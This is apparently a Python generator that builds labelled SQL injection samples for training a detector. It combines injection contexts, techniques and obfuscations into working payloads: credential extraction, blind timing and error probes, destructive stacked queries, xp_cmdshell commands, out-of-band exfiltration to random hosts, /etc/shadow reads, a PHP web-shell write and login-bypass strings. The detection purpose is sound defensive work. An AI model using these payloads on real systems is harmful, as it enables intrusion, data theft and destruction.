"""SQL injection from a grammar: injection context x technique x terminator, then obfuscation.

Contexts are where the value lands in the server's query: a number, a quoted string, or inside
parentheses. Techniques: union, boolean, time-based, error-based, stacked queries, ORDER BY
probing, authentication bypass, out-of-band/file access. Obfuscations: comments and other
whitespace in place of spaces, MySQL versioned comments, case mutation, extra encoding.
"""

from __future__ import annotations

import random

from apiward.ml.generators.base import Family, Sample, case_variant, chance, encode_layer, pick, rand_host, rand_ident, weighted

_TABLES = ("users", "user", "admin", "accounts", "members", "customers", "orders", "products", "login", "passwords", "information_schema.tables", "information_schema.columns", "mysql.user", "sysobjects", "pg_shadow", "all_tables", "sqlite_master", "dual")
_COLUMNS = ("username", "password", "pass", "email", "name", "id", "user_id", "login", "pwd", "hash", "table_name", "column_name", "version", "credit_card", "token")
_FUNCS = ("version()", "@@version", "user()", "current_user", "database()", "schema()", "system_user()", "@@datadir", "@@hostname", "session_user", "db_name()", "current_database()", "banner", "sqlite_version()", "connection_id()", "last_insert_id()")
_WIN_CMDS = ("ipconfig", "whoami", "type c:\\boot.ini")
_SPACES = (" ", " ", " ", "/**/", "/*x*/", "\n", "\t", "+", "\r\n", "/*!*/", "\x0b", "  ", "%20", "/*--*/", "\x0c")


def _num(rng: random.Random) -> str:
    return str(pick(rng, (0, 1, 1, 2, 3, 5, 9, 10, 13, 42, 99, 100, 123, 1337, 9999, -1, rng.randint(1, 99999))))


def _str_lit(rng: random.Random) -> str:
    q = pick(rng, ("'", "'", '"'))
    word = pick(rng, ("a", "x", "1", "abc", "admin", rand_ident(rng)))
    return f"{q}{word}{q}"


def _value(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.4:
        return _num(rng)
    if roll < 0.7:
        return _str_lit(rng)
    if roll < 0.85:
        return pick(rng, _FUNCS)
    return f"0x{rng.getrandbits(24):x}"


def _condition(rng: random.Random) -> str:
    roll = rng.random()
    n = _num(rng)
    if roll < 0.25:
        return f"{n}={n}"
    if roll < 0.4:
        s = _str_lit(rng)
        return f"{s}={s}"
    if roll < 0.5:
        return pick(rng, ("true", "1", "not false", "2>1", "1<2", "1 like 1", "'a' like 'a'", "1 between 0 and 2", "1 in (1)", "'1'<>'2'"))
    if roll < 0.62:
        col = pick(rng, _COLUMNS)
        return f"ascii(substring((select {col} from {pick(rng, _TABLES)} limit 1),{rng.randint(1, 30)},1))>{rng.randint(32, 126)}"
    if roll < 0.72:
        return f"length({pick(rng, _FUNCS)})>{rng.randint(1, 20)}"
    if roll < 0.8:
        return f"(select count(*) from {pick(rng, _TABLES)})>{rng.randint(0, 9)}"
    if roll < 0.88:
        return f"exists(select * from {pick(rng, _TABLES)})"
    if roll < 0.94:
        return f"{n}={int(n) + rng.randint(1, 9)}" if n.lstrip("-").isdigit() else f"{n}<>{n}"
    return f"{pick(rng, ('mid', 'substr', 'substring'))}({pick(rng, _FUNCS)},1,1)='{pick(rng, 'abcdefghijklmnopqrstuvwxyz0123456789')}'"


def _union(rng: random.Random) -> str:
    ncols = rng.randint(1, 12)
    cols = []
    for _ in range(ncols):
        roll = rng.random()
        if roll < 0.35:
            cols.append("null")
        elif roll < 0.6:
            cols.append(str(rng.randint(1, 20)))
        elif roll < 0.75:
            cols.append(pick(rng, _FUNCS))
        elif roll < 0.85:
            cols.append(f"concat({pick(rng, _COLUMNS)},0x3a,{pick(rng, _COLUMNS)})")
        elif roll < 0.93:
            cols.append(f"group_concat({pick(rng, _COLUMNS)})")
        else:
            cols.append(f"char({','.join(str(rng.randint(48, 122)) for _ in range(rng.randint(2, 6)))})")
    body = f"union {pick(rng, ('', '', 'all ', 'distinct '))}select {','.join(cols)}"
    if chance(rng, 0.5):
        body += f" from {pick(rng, _TABLES)}"
        if chance(rng, 0.3):
            body += f" where {_condition(rng)}"
    if chance(rng, 0.2):
        body += f" limit {rng.randint(0, 5)},1"
    return body


def _boolean(rng: random.Random) -> str:
    op = pick(rng, ("and", "or", "or", "and", "&&", "||", "xor", "and not", "or not"))
    return f"{op} {_condition(rng)}"


def _time(rng: random.Random) -> str:
    secs = rng.randint(1, 30)
    forms = (
        f"and sleep({secs})",
        f"or sleep({secs})",
        f"and (select * from (select(sleep({secs}))){rand_ident(rng)})",
        f"and if({_condition(rng)},sleep({secs}),0)",
        f"and benchmark({rng.randint(1, 50)}000000,md5({_num(rng)}))",
        f"; waitfor delay '0:0:{secs}'",
        f"waitfor delay '00:00:{secs:02d}'",
        f"and pg_sleep({secs})",
        f"; select pg_sleep({secs})",
        f"and {rng.randint(1, 9999)}=(select {rng.randint(1, 9999)} from pg_sleep({secs}))",
        f"and {rng.randint(1, 9999)}=dbms_pipe.receive_message(chr({rng.randint(65, 90)}),{secs})",
        f"or if(1=1,sleep({secs}),0)",
        f"and randomblob({rng.randint(1, 9)}00000000)",
        f"rlike sleep({secs})",
        f"and case when {_condition(rng)} then pg_sleep({secs}) else pg_sleep(0) end",
    )
    return pick(rng, forms)


def _error(rng: random.Random) -> str:
    f = pick(rng, _FUNCS)
    forms = (
        f"and extractvalue({rng.randint(1, 9)},concat(0x7e,({f}),0x7e))",
        f"and updatexml({rng.randint(1, 9)},concat(0x7e,{f}),1)",
        f"and 1=convert(int,{f})",
        f"and 1=cast({f} as int)",
        f"and (select 1 from (select count(*),concat({f},floor(rand(0)*2))x from {pick(rng, _TABLES)} group by x)a)",
        f"and exp(~(select * from (select {f})a))",
        f"or 1 group by concat({f},floor(rand(0)*2)) having min(0)",
        f"and {rng.randint(1, 999)}=ctxsys.drithsx.sn(1,({f}))",
        f"and geometrycollection((select * from (select {f})a))",
        f"and json_keys((select convert((select {f}) using utf8)))",
        f"and row(1,1)>(select count(*),concat({f},0x3a,floor(rand()*2))x from {pick(rng, _TABLES)} group by x)",
        f"::int",
        f"and {f}::int=1",
    )
    return pick(rng, forms)


def _stacked(rng: random.Random) -> str:
    t = pick(rng, _TABLES[:10])
    forms = (
        f"; drop table {t}",
        f"; delete from {t}",
        f"; truncate table {t}",
        f"; insert into {t} ({pick(rng, _COLUMNS)}) values ('{rand_ident(rng)}')",
        f"; update {t} set {pick(rng, _COLUMNS)}='{rand_ident(rng)}' where {_condition(rng)}",
        f"; exec master..xp_cmdshell '{pick(rng, ('dir', 'whoami', 'ping ' + rand_host(rng), 'net user'))}'",
        f"; exec xp_cmdshell('{pick(rng, _WIN_CMDS)}')",
        "; shutdown",
        f"; create table {rand_ident(rng)}(x text)",
        f"; select * from {t}",
        f"; alter table {t} drop column {pick(rng, _COLUMNS)}",
        f"; declare @q varchar(99) set @q=0x{rng.getrandbits(48):x} exec(@q)",
        f"; copy {t} to program '{pick(rng, ('id', 'curl ' + rand_host(rng)))}'",
        f"; grant all privileges on *.* to '{rand_ident(rng)}'@'%'",
    )
    return pick(rng, forms)


def _probe(rng: random.Random) -> str:
    forms = (
        f"order by {rng.randint(1, 30)}",
        f"group by {','.join(str(i) for i in range(1, rng.randint(2, 8)))}",
        f"group by {pick(rng, _COLUMNS)} having {_condition(rng)}",
        f"procedure analyse()",
        f"having {_condition(rng)}",
        f"limit {rng.randint(0, 9)} into outfile '/var/www/{rand_ident(rng)}.php'",
        f"into dumpfile '/tmp/{rand_ident(rng)}'",
    )
    return pick(rng, forms)


def _file_oob(rng: random.Random) -> str:
    forms = (
        f"union select load_file('{pick(rng, ('/etc/passwd', '/etc/shadow', 'c:/windows/win.ini', '/var/www/config.php'))}')",
        "and load_file(concat('" + "\\\\" * 2 + f"',({pick(rng, _FUNCS)}),'.{rand_host(rng)}" + "\\\\a'))",
        f"and utl_http.request('http://{rand_host(rng)}/'||({pick(rng, _FUNCS)}))=1",
        f"; exec master..xp_dirtree '\\\\{rand_host(rng)}\\a'",
        f"union select '<?php system($_GET[\"c\"]); ?>' into outfile '/var/www/html/{rand_ident(rng)}.php'",
        f"and (select dbms_xmlgen.getxml('select {pick(rng, _COLUMNS)} from {pick(rng, _TABLES)}') from dual) is not null",
    )
    return pick(rng, forms)


_TECHNIQUES: tuple[tuple[str, Family, float], ...] = (
    ("union", _union, 3.0),
    ("boolean", _boolean, 3.0),
    ("time", _time, 2.0),
    ("error", _error, 1.5),
    ("stacked", _stacked, 1.5),
    ("probe", _probe, 1.0),
    ("file_oob", _file_oob, 0.7),
)


def _opener(rng: random.Random) -> tuple[str, str]:
    """Returns (prefix closing the context, quote char to balance the tail or '')."""
    base = pick(rng, ("", "", "1", "1", "-1", "0", "admin", "test", rand_ident(rng), str(rng.randint(1, 99999)), "9999999"))
    roll = rng.random()
    if roll < 0.35:
        return base if base and base.lstrip("-").isdigit() else str(rng.randint(0, 999)), ""
    # straight quotes mostly; typographic lookalikes that some drivers and collations fold to ';
    # backticks close MySQL identifiers
    quote = "'" if rng.random() < 0.75 else pick(rng, ('"', '"', "`", "\u2019", "\u2018", "\u00b4", "\u02bc"))
    parens = ")" * pick(rng, (0, 0, 0, 1, 1, 2))
    return f"{base}{quote}{parens}", quote


def _terminator(rng: random.Random, quote: str, body: str) -> str:
    roll = rng.random()
    if roll < 0.3:
        return pick(rng, ("-- ", "--", "-- -", "--+", "#", "/*", ";--", ";", "-- a", ";%00", "`", "--+-"))
    if roll < 0.55 and quote:
        return f" and {quote}{rand_ident(rng)}{quote}={quote}{rand_ident(rng)}" if rng.random() < 0.3 else f" or {quote}1{quote}={quote}1"
    return ""


def _obfuscate(rng: random.Random, text: str) -> str:
    if chance(rng, 0.3):
        space = pick(rng, _SPACES)
        text = text.replace(" ", space)
    if chance(rng, 0.08):
        for kw in ("select", "union", "from", "where", "and", "or"):
            text = text.replace(kw + " ", f"/*!{pick(rng, ('', '50000', '12345', '40100'))}{kw}*/ ", 1)
    if chance(rng, 0.06):
        text = text.replace("select", pick(rng, ("selselectect", "se/**/lect", "%53elect", "sel%00ect")))
    if chance(rng, 0.04):
        # a keyword split by an inline comment (DR/**/OP, UN/*x*/ION)
        for kw in ("select", "union", "drop", "insert", "update", "delete", "sleep"):
            if kw in text:
                cut = rng.randint(1, len(kw) - 1)
                text = text.replace(kw, f"{kw[:cut]}/*{pick(rng, ('', 'x', rand_ident(rng)))}*/{kw[cut:]}", 1)
                break
    text = case_variant(rng, text)
    return encode_layer(rng, text)


def _auth_bypass(rng: random.Random) -> str:
    user = pick(rng, ("admin", "root", "administrator", rand_ident(rng), ""))
    q = pick(rng, ("'", "'", '"'))
    forms = (
        f"{user}{q}--",
        f"{user}{q} --",
        f"{user}{q}#",
        f"{user}{q}/*",
        f"{q} or {q}{q}={q}",
        f"{q} or 1=1--",
        f"{q} or {q}1{q}={q}1{q}--",
        f"{user}{q}) or ({q}a{q}={q}a",
        f"{q}={q}",
        f"{q} or true--",
        f"{user}{q} or 1=1 limit 1--",
        f"{q}||{q}1{q}={q}1",
        f"1{q} or {q}1{q}={q}1",
        f"{q}or 1#",
        f"{user}{q}/**/or/**/1=1",
        f"{q}) or true--",
        f"{q} or 'x'='x",
        f"{q} or {rng.randint(1, 99)}={rng.randint(1, 99)}--",
        # no blanks around the operator, a comparison left open for the query's own tail
        f"{q}or{q}{rand_ident(rng)[:1]}{q}={q}{rand_ident(rng)[:1]}",
        f"{user}{q}or {rng.randint(0, 99)}{pick(rng, ('>', '<', '>=', '<>'))}",
        f"{q}{pick(rng, ('xor', 'or', 'and', '||', '&&'))} {rng.randint(0, 9999)}{pick(rng, ('>', '<', '='))}",
        f"{q} or {q}{rand_ident(rng)}{q} {pick(rng, ('<', '>', '<=', 'like'))}",
        f"{user}{q}is not{pick(rng, ('?', ' null', '-' + user, ' ' + q + q))}--",
        f"{user}{q} is not {rng.randint(0, 9)}",
    )
    return case_variant(rng, pick(rng, forms))


def _contextual(rng: random.Random, name: str, fn: Family) -> str:
    opener, quote = _opener(rng)
    body = fn(rng)
    sep = "" if body.startswith(";") else pick(rng, (" ", " ", " ", "/**/", "\n", "+", "%20"))
    if opener.endswith(("'", '"', ")")) and rng.random() < 0.2:
        sep = ""
    text = f"{opener}{sep}{body}{_terminator(rng, quote, body)}"
    return _obfuscate(rng, text)


_SQL_FUNCS = ("json_search", "json_array", "json_keys", "jsonb_extract_path", "lo_get", "lo_import", "unistr", "find_in_set", "sleep", "benchmark", "load_file", "pg_sleep", "extractvalue", "updatexml", "name_const", "concat_ws", "group_concat", "char", "chr", "ascii", "substring", "mid", "hex", "unhex", "version", "database", "user", "now", "if", "ifnull", "coalesce", "cast", "convert", "md5", "sha1", "row_count", "found_rows", "json_extract", "json_valid", "xp_cmdshell", "dbms_pipe.receive_message", "utl_inaddr.get_host_name", "sys_context", "waitfor", "count", "exp", "floor", "rand", "len", "db_name", "user_name", "is_srvrolemember", "openrowset", "sp_executesql")
_SQL_KW = ("select", "union", "union all", "insert into", "delete from", "drop table", "update", "from", "where", "order by", "group by", "having", "limit", "offset", "like", "rlike", "regexp", "is null", "not null", "between", "exists", "into outfile", "information_schema", "sysobjects", "declare", "exec", "execute", "collate", "procedure", "case when", "then", "else", "end", "and", "or", "xor", "not", "null", "true", "false", "@@version", "@@datadir", "::int", "::text", "::jsonb")


def _fragment(rng: random.Random) -> str:
    """Short SQL fragments: what a filter sees when an injection is split or probed piecewise."""
    parts: list[str] = []
    for _ in range(rng.randint(1, 3)):
        roll = rng.random()
        if roll < 0.45:
            fn = pick(rng, _SQL_FUNCS)
            args = pick(rng, ("", "1", "5", "0x41", "'a'", "@@version", "(select 1)", "null", "user()", "1,1", "'0:0:5'"))
            parts.append(f"{fn}({args}{pick(rng, (')', ')', '', ',', '))'))}")
        elif roll < 0.8:
            parts.append(pick(rng, _SQL_KW))
        else:
            parts.append(pick(rng, ("1=1", "'1'='1", "1<2", "0x7e", "--", "#", "/**/", ";", "'", "')", "\"", "*", "null,null", "@x", "1,2,3")))
    if len(parts) < 2 and "(" not in parts[0]:
        parts.append(f"{pick(rng, _SQL_FUNCS)}({pick(rng, ('', '1', '5', 'null'))}")
    text = " ".join(parts)
    if chance(rng, 0.5):
        text = pick(rng, ("'", "\"", "1 ", "') ", "1) ", "-1 ", "x' ")) + text
    return case_variant(rng, text)


def generate(rng: random.Random, n: int) -> list[Sample]:
    out: list[Sample] = []
    for _ in range(n):
        if rng.random() < 0.12:
            out.append(Sample(encode_layer(rng, _auth_bypass(rng)), "sqli", "auth_bypass"))
            continue
        if rng.random() < 0.12:
            out.append(Sample(encode_layer(rng, _fragment(rng)), "sqli", "fragment"))
            continue
        name, fn = weighted(rng, _TECHNIQUES)
        if rng.random() < 0.08:
            # Bare expression: the value is the whole statement fragment (search box, API filter).
            text = _obfuscate(rng, f"{fn(rng)}")
        else:
            text = _contextual(rng, name, fn)
        out.append(Sample(text, "sqli", name))
    return out
